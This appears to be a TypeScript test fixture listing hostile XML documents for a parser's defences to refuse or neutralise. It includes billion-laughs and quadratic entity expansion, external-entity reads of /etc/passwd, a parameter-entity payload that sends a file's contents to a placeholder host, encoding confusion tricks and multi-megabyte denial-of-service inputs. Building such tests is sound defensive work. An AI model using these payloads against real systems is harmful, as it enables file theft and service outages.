import type { ReasonCode } from '#domain/reason.js';

/**
 * A document that means harm. `code` is what a parser refuses it as; `read`: it is well-formed, and nothing in it may
 * be obeyed.
 */
export interface XmlAttack {
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly code: ReasonCode | 'read';
}

const MEGABYTE = 1_000_000;
/** Nobody answers at this address. */
const OUTSIDE = 'http://192.0.2.1/x';

function utf8(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}

function bytes(...parts: (string | readonly number[])[]): Uint8Array {
  return Uint8Array.from(parts.flatMap((part) => (typeof part === 'string' ? [...utf8(part)] : [...part])));
}

function utf16(text: string, order: 'little' | 'big', mark = true): Uint8Array {
  const units = mark ? `\ufeff${text}` : text;
  const made = new Uint8Array(units.length * 2);
  const view = new DataView(made.buffer);
  for (let i = 0; i < units.length; i++) view.setUint16(i * 2, units.charCodeAt(i), order === 'little');
  return made;
}

function utf32(text: string, isLittle: boolean): Uint8Array {
  const points = [...`\ufeff${text}`];
  const made = new Uint8Array(points.length * 4);
  const view = new DataView(made.buffer);
  points.forEach((point, i) => view.setUint32(i * 4, point.codePointAt(0) ?? 0, isLittle));
  return made;
}

/** Letters, digits and the signs of `<?xml version="1.0"?><!DOCTYPE a><a/>` in code page 037. */
function ebcdic(text: string): Uint8Array {
  const signs: Readonly<Record<string, number>> = {
    '<': 0x4c,
    '?': 0x6f,
    ' ': 0x40,
    '=': 0x7e,
    '"': 0x7f,
    '.': 0x4b,
    '>': 0x6e,
    '!': 0x5a,
    '/': 0x61,
  };
  const code = (char: string): number => {
    if (char >= 'a' && char <= 'i') return 0x81 + char.charCodeAt(0) - 0x61;
    if (char >= 'j' && char <= 'r') return 0x91 + char.charCodeAt(0) - 0x6a;
    if (char >= 's' && char <= 'z') return 0xa2 + char.charCodeAt(0) - 0x73;
    if (char >= 'A' && char <= 'I') return 0xc1 + char.charCodeAt(0) - 0x41;
    if (char >= 'J' && char <= 'R') return 0xd1 + char.charCodeAt(0) - 0x4a;
    if (char >= 'S' && char <= 'Z') return 0xe2 + char.charCodeAt(0) - 0x53;
    if (char >= '0' && char <= '9') return 0xf0 + Number(char);
    return signs[char] ?? 0x6f;
  };
  return Uint8Array.from([...text], code);
}

const LAUGHS = `<!DOCTYPE a [<!ENTITY l0 "ha">${Array.from(
  { length: 10 },
  (_, i) => `<!ENTITY l${String(i + 1)} "${`&l${String(i)};`.repeat(10)}">`,
).join('')}]><a>&l10;</a>`;
const DECLARED_16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>';
const ENTITY_IN_CONTENT = '<a>&xxe;</a>';

function repeat(text: string, size: number): string {
  return text.repeat(Math.ceil(size / text.length));
}

function many(count: number, made: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => made(index)).join('');
}

const DOCTYPES: Readonly<Record<string, Uint8Array>> = {
  'billion laughs': utf8(LAUGHS),
  'quadratic blow-up': utf8(`<!DOCTYPE a [<!ENTITY e "${repeat('x', 50_000)}">]><a>${repeat('&e;', 150_000)}</a>`),
  'external entity, file': utf8(`<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${ENTITY_IN_CONTENT}`),
  'external entity, http': utf8(`<!DOCTYPE a [<!ENTITY xxe SYSTEM "${OUTSIDE}">]>${ENTITY_IN_CONTENT}`),
  'external entity, device': utf8(`<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///dev/zero">]>${ENTITY_IN_CONTENT}`),
  'parameter entity': utf8(`<!DOCTYPE a [<!ENTITY % e SYSTEM "${OUTSIDE}"> %e;]><a/>`),
  'parameter entity that carries a file away': utf8(
    `<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY s SYSTEM '${OUTSIDE}?%f;'>">%e;]><a>&s;</a>`,
  ),
  'recursive entity': utf8('<!DOCTYPE a [<!ENTITY e "&f;"><!ENTITY f "&e;">]><a>&e;</a>'),
  'external DTD': utf8(`<!DOCTYPE a SYSTEM "${OUTSIDE}"><a/>`),
  'public DTD': utf8(`<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "${OUTSIDE}"><html/>`),
  'entity in an attribute': utf8('<!DOCTYPE a [<!ENTITY e "x">]><a b="&e;"/>'),
  'default attribute': utf8('<!DOCTYPE a [<!ATTLIST a b CDATA "x">]><a/>'),
  'DOCTYPE in UTF-16LE': utf16(DECLARED_16, 'little'),
  'DOCTYPE in UTF-16BE': utf16(DECLARED_16, 'big'),
  'DOCTYPE behind a byte order mark': utf8('\ufeff<!DOCTYPE a><a/>'),
  'DOCTYPE behind comments': utf8(`${repeat('<!-- <a/> -->', MEGABYTE)}<!DOCTYPE a><a/>`),
  'DOCTYPE behind instructions': utf8(`${repeat('<?p <a/> ?>\n', MEGABYTE)}<!DOCTYPE a><a/>`),
  'DOCTYPE in small letters': utf8('<!doctype a [<!entity e "x">]><a/>'),
  'DOCTYPE in the root': utf8('<a><!DOCTYPE a [<!ENTITY e "x">]>&e;</a>'),
  'DOCTYPE without end': utf8(`<!DOCTYPE a [${repeat('<!ENTITY e "x">', 5 * MEGABYTE)}`),
};

const CHARACTER_SETS: Readonly<Record<string, Uint8Array>> = {
  'DOCTYPE in UTF-16LE without mark': utf16(DECLARED_16, 'little', false),
  'DOCTYPE in UTF-16BE without mark': utf16(DECLARED_16, 'big', false),
  'DOCTYPE in UTF-7': utf8('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'),
  'UTF-7 with mark': utf8('+/v8-+ADwAIQ-DOCTYPE a+AD4-<a/>'),
  'DOCTYPE in EBCDIC': ebcdic('<?xml version="1.0" encoding="IBM037"?><!DOCTYPE a><a/>'),
  'DOCTYPE in UTF-32LE': utf32('<!DOCTYPE a><a/>', true),
  'DOCTYPE in UTF-32BE': utf32('<!DOCTYPE a><a/>', false),
  'a code page nobody asked for': bytes('<?xml version="1.0" encoding="windows-1252"?><a>', [0x93], '</a>'),
  'an encoding that is a path': utf8('<?xml version="1.0" encoding="..-etc-passwd"?><a/>'),
  'invalid UTF-8': bytes('<a>', [0xff], '</a>'),
  'UTF-8 cut off': bytes('<a>', [0xe2, 0x82], '</a>'),
  'overlong UTF-8, two bytes': bytes([0xc0, 0xbc], '!DOCTYPE a><a/>'),
  'overlong UTF-8, three bytes': bytes('<a>', [0xe0, 0x80, 0xbc], 'b/></a>'),
  'overlong NUL': bytes('<a>', [0xc0, 0x80], '</a>'),
  'surrogates in UTF-8': bytes('<a>', [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80], '</a>'),
  'beyond Unicode in UTF-8': bytes('<a>', [0xf4, 0x90, 0x80, 0x80], '</a>'),
  'half a character in UTF-16': bytes([
    0xfe, 0xff, 0, 0x3c, 0, 0x61, 0, 0x3e, 0xd8, 0x3d, 0, 0x3c, 0, 0x2f, 0, 0x61, 0, 0x3e,
  ]),
  'an odd byte in UTF-16': bytes([0xff, 0xfe, 0x3c, 0, 0x61, 0, 0x2f, 0, 0x3e, 0, 0x20]),
  'UTF-16 that says it is UTF-8': utf16('<?xml version="1.0" encoding="UTF-8"?><a/>', 'little'),
  'UTF-8 that says it is UTF-16': utf8('<?xml version="1.0" encoding="UTF-16"?><a/>'),
  'a mark that contradicts the declaration': utf8('\ufeff<?xml version="1.0" encoding="ISO-8859-1"?><a/>'),
  'Latin-1 that says it is ASCII': bytes('<?xml version="1.0" encoding="US-ASCII"?><a>', [0xe5], '</a>'),
  'controls as Latin-1': bytes('<?xml version="1.0" encoding="ISO-8859-1"?><a>', [0x85], '</a>'),
};

const COMPLEX: Readonly<Record<string, Uint8Array>> = {
  'CDATA section without end': utf8(`<a><![CDATA[${repeat(']', 5 * MEGABYTE)}`),
  'comment without end': utf8(`<!--${repeat('- ', 5 * MEGABYTE)}`),
  'instruction without end': utf8(`<?p ${repeat('? ', 5 * MEGABYTE)}`),
  'blanks in a tag': utf8(`<a${repeat(' ', 5 * MEGABYTE)}`),
  'blanks in an end tag': utf8(`<a></a${repeat(' \n', 5 * MEGABYTE)}x`),
  'a reference of a million digits': utf8(`<a>&#${repeat('9', MEGABYTE)};</a>`),
  brackets: utf8(`<a>${repeat(']]', MEGABYTE)}`),
  'carriage returns': utf8(repeat('\r', 5 * MEGABYTE)),
  'a declaration of 5 MB': utf8(`<?xml version="1.0"${repeat(' ', 5 * MEGABYTE)}?`),
  'instructions by the million': utf8(`<a>${repeat('<?p?>', 5 * MEGABYTE)}</a>`),
  'nested a million deep': utf8(repeat('<a>', 3 * MEGABYTE)),
  'nested deep and closed': utf8(`${'<a>'.repeat(500_000)}${'</a>'.repeat(500_000)}`),
  'a hundred thousand attributes': utf8(`<a ${many(100_000, (i) => `b${String(i)}="" `)}/>`),
  'a hundred thousand attributes that would share a slot': utf8(
    `<a ${many(100_000, (i) => `a${String(i * 4096)}="" `)}/>`,
  ),
  'an attribute of 5 MB': utf8(`<a b="${repeat('x', 5 * MEGABYTE)}"/>`),
  'a name of 5 MB': utf8(`<${repeat('x', 5 * MEGABYTE)}/>`),
  'an attribute name of 5 MB': utf8(`<a ${repeat('x', 5 * MEGABYTE)}=""/>`),
  'a text of 5 MB': utf8(`<a>${repeat('x', 5 * MEGABYTE)}</a>`),
  'a CDATA section of 5 MB': utf8(`<a><![CDATA[${repeat(']]', 5 * MEGABYTE)}]]></a>`),
  'references by the million': utf8(`<a>${repeat('&amp;', 5 * MEGABYTE)}</a>`),
  'a million elements': utf8(`<r>${repeat('<a/>', 4 * MEGABYTE)}</r>`),
  'namespaces by the thousand': utf8(`<r>${many(40_000, (i) => `<a xmlns:p${String(i)}="urn:${String(i)}"/>`)}</r>`),
  'namespaces in one tag': utf8(`<r ${many(100_000, (i) => `xmlns:p${String(i)}="urn:u" `)}/>`),
};

const UNREADABLE: Readonly<Record<string, Uint8Array>> = {
  'nothing but a NUL': utf8('\0'),
  'NUL bytes': utf8('<a>\0</a>'),
  'NUL as reference': utf8('<a>&#0;</a>'),
  'entity without declaration': utf8(ENTITY_IN_CONTENT),
  'surrogates as references': utf8('<a>&#xD83D;&#xDE00;</a>'),
  'an ampersand in 5 MB of text': utf8(`<a>${repeat('x & y ', 5 * MEGABYTE)}</a>`),
  'an element that is never closed': utf8(`<a>${repeat('<b/>', 100_000)}<c></a>`),
  'CDATA section within its own end': utf8('<a><![CDATA[x]]>]]></a>'),
  ampersands: utf8(`<a>${repeat('&', MEGABYTE)}</a>`),
  'a reference without end': utf8(`<a>&#${repeat('9', 5 * MEGABYTE)}`),
  'start tags that never end': utf8(repeat('<a ', MEGABYTE)),
  'ends of sections': utf8(`<a>${repeat(']]>', MEGABYTE)}</a>`),
  'a declaration that hides its encoding': utf8(`<?xml version="1.0"${repeat(' ', 2_000)}encoding="UTF-16"?><a/>`),
  'XML 1.1': utf8('<?xml version="1.1"?><a>&#1;</a>'),
  'two byte order marks': utf8('\ufeff\ufeff<a/>'),
  'two documents': utf8('<a/><a/>'),
  'an attribute twice': utf8('<a b="1" b="2"/>'),
  'a prefix bound to the namespace of xmlns': utf8('<a xmlns:p="http://www.w3.org/2000/xmlns/"/>'),
};

const HARMLESS: Readonly<Record<string, Uint8Array>> = {
  'instructions by the thousand': utf8(`<a>${repeat('<?p?>', 50_000)}</a>`),
  'XInclude, file': utf8(
    '<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file:///etc/passwd" parse="text"/></a>',
  ),
  'XInclude, http': utf8(`<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="${OUTSIDE}"/></a>`),
  'a style sheet': utf8(`<?xml-stylesheet type="text/xsl" href="${OUTSIDE}"?><a/>`),
  'a schema elsewhere': utf8(
    `<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:u ${OUTSIDE}" i:noNamespaceSchemaLocation="file:///etc/passwd"/>`,
  ),
  'a base elsewhere': utf8(`<a xml:base="${OUTSIDE}"/>`),
  'markup in a CDATA section': utf8('<a><![CDATA[<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;]]></a>'),
  'the prototype of objects': utf8('<__proto__ constructor="x"><toString/><hasOwnProperty __proto__="y"/></__proto__>'),
  'a document type within a comment': utf8('<!-- <!DOCTYPE a> --><a/>'),
};

function named(code: XmlAttack['code'], attacks: Readonly<Record<string, Uint8Array>>): XmlAttack[] {
  return Object.entries(attacks).map(([name, made]) => ({ name, bytes: made, code }));
}

/** Up to 5 MB each. */
export const XML_ATTACKS: readonly XmlAttack[] = [
  ...named('document-type', DOCTYPES),
  ...named('character-set', CHARACTER_SETS),
  ...named('too-complex', COMPLEX),
  ...named('not-readable', UNREADABLE),
  ...named('read', HARMLESS),
];
